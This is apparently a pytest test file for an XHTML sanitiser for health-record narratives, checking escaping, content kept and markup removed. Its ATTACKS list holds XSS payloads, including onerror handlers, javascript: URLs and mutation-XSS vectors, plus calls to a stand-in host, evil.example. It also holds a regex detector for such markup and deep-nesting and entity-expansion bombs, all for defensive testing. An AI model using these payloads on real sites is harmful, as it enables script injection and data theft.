"""Text into XHTML, and foreign XHTML made safe: nothing dangerous gets through, nothing legible gets lost."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from mhbridge.fhir.xhtml import ATTRIBUTES, DEPTH, ELEMENTS, NAMESPACE, div, escape, flow, paragraph, sanitise, visible

OPEN = f'<div xmlns="{NAMESPACE}">'


def text_of(element: ET.Element) -> str:
    """What a reader sees, a line break for every `br` and an empty line between paragraphs."""
    if element.tag == f"{{{NAMESPACE}}}br":
        return "\n" + (element.tail or "")
    inner = element.text or ""
    for place, child in enumerate(element):
        both = child.tag == f"{{{NAMESPACE}}}p" and place
        inner += ("\n\n" if both else "") + text_of(child)
    return inner + (element.tail or "")


def dangers(xhtml: str) -> list[str]:
    """What a narrative must not hold, found by a browser's rules of thumb in text that need not be well formed."""
    found = re.findall(
        r"<\s*(script|style|iframe|object|embed|form|svg|math|link|meta|base|frame)\b", xhtml, re.IGNORECASE
    )
    for tag in re.findall(r"<[^>]*>", xhtml):
        found += re.findall(r"\b(on[a-z]+)\s*=", tag, re.IGNORECASE)
        found += re.findall(r"(javascript:|vbscript:|data:text|expression\(|url\()", tag, re.IGNORECASE)
    return found


def check(xhtml: str) -> None:
    """Well formed, of the elements and attributes allowed, with addresses that do nothing."""
    for element in ET.fromstring(xhtml).iter():
        space, _, name = element.tag[1:].partition("}")
        assert (space, name in ELEMENTS) == (NAMESPACE, True)
        for key, value in element.attrib.items():
            assert key in ATTRIBUTES
            if key in ("href", "src"):
                assert re.match(
                    r"https?://|mailto:|tel:|#|data:image/(png|gif|jpeg);base64,", value.strip(), re.IGNORECASE
                )


# --- text --------------------------------------------------------------------------------------------------

TEXTS = [
    ("a & b < c > d", "a &amp; b &lt; c &gt; d"),
    ("\"quoted\" and 'so'", "&quot;quoted&quot; and 'so'"),
    ("one\ntwo\r\nthree\rfour", "one<br/>two<br/>three<br/>four"),
    ("Score    3   of 10", "Score\u00a0\u00a0\u00a0 3\u00a0\u00a0 of 10"),
    (" in\n  dented", "\u00a0in<br/>\u00a0\u00a0dented"),
    ("naïve — 日本 🌿", "naïve — 日本 🌿"),
    ("bell\x07, null\x00, page\x0c", "bell\\x07, null\\x00, page\\x0c"),
    # Windows-1252 read as Latin-1: unseen, "5–10 mg" would be "510 mg".
    ("5\x9610 mg", "5\\x9610 mg"),
    ("mg 01 \u202edaily", "mg 01 \\u202edaily"),
    ("half \ud83d of a pair \ufffe", "half \\ud83d of a pair \\ufffe"),
]


@pytest.mark.parametrize(("text", "written"), TEXTS)
def test_text_is_written_so_that_it_is_all_seen(text: str, written: str) -> None:
    assert flow(text) == written
    ET.fromstring(div(written))


def test_a_blank_line_begins_a_paragraph() -> None:
    assert paragraph("one\ntwo\n\nthree") == "<p>one<br/>two</p><p>three</p>"
    assert paragraph("one\r\n\r\ntwo") == "<p>one</p><p>two</p>"


@given(st.text(st.characters(codec=None, exclude_categories=())))
@example("\r\n\r \n  \n\n\n")
@example("\\x07 and \x07")
@settings(max_examples=300, deadline=None)
def test_any_text_survives_the_way_through_xml(text: str) -> None:
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    shown = visible(lines)
    read = ET.fromstring(div(paragraph(text)))
    assert text_of(read).replace("\u00a0", " ") == shown.replace("\u00a0", " ")
    assert ET.fromstring(div(f'<p title="{escape(text.translate({9: 32, 10: 32, 13: 32}))}"/>'))[0].get("title") == (
        visible(text.translate({9: 32, 10: 32, 13: 32}))
    )


# --- foreign XHTML: what is kept -----------------------------------------------------------------------------

KEPT = [
    # well-formed XHTML stays what it is
    (f"{OPEN}<p>One<br/>two</p><hr/></div>", "<p>One<br/>two</p><hr/>"),
    ('<?xml version="1.0"?>\n<div><p>x</p></div>', "<p>x</p>"),
    ("<p>a</p><p>b</p>", "<p>a</p><p>b</p>"),
    ("<p>5&nbsp;mg &eacute; &#x2265;2 &amp; &lt;b&gt;</p>", "<p>5\u00a0mg é ≥2 &amp; &lt;b&gt;</p>"),
    ('<table border="1"><tr><td colspan="2">x</td></tr></table>',
     '<table border="1"><tbody><tr><td colspan="2">x</td></tr></tbody></table>'),
    ('<ol start="3"><li value="5">z</li></ol>', '<ol start="3"><li value="5">z</li></ol>'),
    ("<pre>\n a  b\n c</pre>", "<pre>\n a  b\n c</pre>"),
    ('<a href="https://example.org/?a=1&amp;b=2">x</a>', '<a href="https://example.org/?a=1&amp;b=2">x</a>'),
    ('<img src="data:image/png;base64,AAAA" alt="chart"/>', '<img src="data:image/png;base64,AAAA" alt="chart"/>'),
    ('<x:div xmlns:x="http://www.w3.org/1999/xhtml"><x:b>q</x:b></x:div>', "<b>q</b>"),
    # XML that an HTML reader would lose or join
    ("<p>before</p><script/><p>after</p>", "<p>before</p><p>after</p>"),
    ("<p>a</p><style/><p>b</p>", "<p>a</p><p>b</p>"),
    ("<p><![CDATA[BP < 120 & falling]]></p>", "<p>BP &lt; 120 &amp; falling</p>"),
    ("<b/>plain", "<b></b>plain"),
    ("<item>5 mg</item><item>10 mg</item>", "5 mg  10 mg"),
    ('<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:text>label</s:text></s:svg>', "label"),
    # HTML as senders write it
    ("<P>a<P>b", "<p>a</p><p>b</p>"),
    ("<!DOCTYPE html><html><head><meta charset=x></head><body>x<br>y</body></html>", "x<br/>y"),
    ("a<br>b<hr>c", "a<br/>b<hr/>c"),
    ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
    ("<td>1</td><td>2</td>", "<table><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"),
    ("<section>5 mg</section><section>10 mg</section><br>", "<div>5 mg</div><div>10 mg</div><br/>"),
    ("<font color=red>al</font>lergy<br>", "allergy<br/>"),
    ("<dir><li>a</dir>", "<ul><li>a</li></ul>"),
    ("<template>in</template><noscript>no</noscript><textarea>area</textarea><br>", "in  no  area <br/>"),
    # what is no tag is text
    ("BP <120/80 & falling", "BP &lt;120/80 &amp; falling"),
    ("write to <j.bloggs@example.org> or x<y and", "write to &lt;j.bloggs@example.org&gt; or x&lt;y and"),
    ("take <ten mg> at night<br>", "take &lt;ten mg&gt; at night<br/>"),
    ("temp <b and more", "temp &lt;b and more"),
    ("<!-- never ended", "&lt;!-- never ended"),
    ("<![CDATA[never ended", "&lt;![CDATA[never ended"),
    ("<script>10 mg daily", "10 mg daily"),
    # small letters of some letters are two, and places move
    ("İİİİİİİİİİ</script><script>10 mg daily", "İİİİİİİİİİ 10 mg daily"),
    ("a\x00b\x96c", "a\\x00b\\x96c"),
    # what would mean something else without its looks
    ("<del>Clozapine</del> stopped", "<span>[crossed out: Clozapine]</span> stopped"),
    ('<span style="text-decoration: line-through">x</span>', "<span>[crossed out: x]</span>"),
    ("<input type=checkbox checked>Yes<input type=checkbox>No", "[x] Yes [ ] No"),
    ('<input type="radio" checked="checked"/>Yes<input type="radio"/>No', "[x] Yes [ ] No"),
    ("<select><option selected>A<option>B</select>", "[x] A [ ] B"),
    ('<input value="12 mg">', "12 mg"),
    ('<input type="hidden" value="12 mg"><br>x', "<br/>x"),
    ("<img src=http://tracker.example/x.png alt='ECG trace'><br>", "[picture not included: ECG trace]<br/>"),
    ('<p style="FONT-WEIGHT: Bold; display:none; color: white">x</p>', '<p style="font-weight: bold">x</p>'),
    # nothing to see
    ("<script>x</script>", None),
    ("<!-- only a comment -->", None),
    ("  <p> </p> ", None),
    ("", None),
]  # fmt: skip


@pytest.mark.parametrize(("given_", "kept"), KEPT)
def test_what_a_reader_would_see_is_kept(given_: str, kept: str | None) -> None:
    assert sanitise(given_) == ("" if kept is None else f"{OPEN}{kept}</div>")


@pytest.mark.parametrize("given_", [given_ for given_, _ in KEPT])
def test_what_is_clean_stays_as_it_is(given_: str) -> None:
    once = sanitise(given_)
    assert sanitise(once) == once
    if once:
        check(once)


# --- foreign XHTML: what is taken away ----------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>seen",
    "<SCRIPT SRC=//evil.example></SCRIPT>seen",
    '<img src=x onerror="alert(1)">seen',
    "<svg onload=alert(1)>seen</svg>",
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>seen</svg>',
    '<a href="javascript:alert(1)">seen</a>',
    '<a href="java&#10;script:alert(1)" onclick="x()">seen</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">seen</a>',
    '<div style="background:url(javascript:x)">seen</div>',
    '<iframe src="https://evil.example">seen</iframe>',
    '<object data="x.swf">seen</object>',
    '<form action="https://evil.example"><input name="q">seen</form>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">seen',
    "<style>body{display:none}</style>seen",
    '<link rel="stylesheet" href="https://evil.example/x.css">seen',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">seen',
    '<base href="https://evil.example/">seen',
    '<p onmouseover="x()">seen</p>',
    "<x onclick=alert(1)>seen</x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">seen</noscript>',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_could_run_or_call_home_is_taken_away(attack: str) -> None:
    assert dangers(attack), "the check itself must see the danger"
    safe = sanitise(attack)
    check(safe)
    assert not dangers(safe)
    assert "seen" in "".join(ET.fromstring(safe).itertext())


ENTITIES = '<!DOCTYPE d [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><div>&b;</div>'


def test_entities_of_ones_own_are_not_expanded() -> None:
    assert "lollol" not in sanitise(ENTITIES)


BOMBS = {
    "nested": "<div>" * 20_000 + "deep" + "</div>" * 20_000,
    "never closed": "<div>" * 20_000 + "deep",
    "nested, not XML": "<div>" * 20_000 + "deep<br>",
    "formatting": "".join(f"<b id={n}>" for n in range(1000)) + "<p>deep" * 5_000,
    "comments": "-->" + "<!--" * 20_000 + "deep",
    "cdata": "<![CDATA[" * 20_000 + "deep",
    "tags never ended": "<a " * 20_000 + "deep",
    "tables": "<table>" * 5_000 + "deep",
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_deep_nesting_keeps_the_text_and_loses_the_depth(bomb: str) -> None:
    safe = sanitise(bomb)
    assert "deep" in "".join(ET.fromstring(safe).itertext())
    depth = most = 0
    for close in re.findall(r"<(/?)[a-z][^>]*?(?<!/)>", safe):
        depth += -1 if close else 1
        most = max(most, depth)
    assert most <= DEPTH + 2
    assert len(safe) < 40 * len(bomb)


@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                "/",
                "a",
                "b",
                "td",
                "script",
                "style",
                " ",
                "=",
                '"',
                "'",
                "&",
                "#0;",
                "on",
                "x",
                "!--",
                "-->",
                "![CDATA[",
                "]]>",
                "p",
                "\x00",
                "\x96",
                "div",
                "svg",
                "text",
            ]
        ),
        max_size=40,
    )
)
@settings(max_examples=400, deadline=None)
def test_any_markup_comes_out_well_formed_and_safe(parts: list[str]) -> None:
    safe = sanitise("".join(parts))
    if safe:
        check(safe)
        assert "<script" not in safe
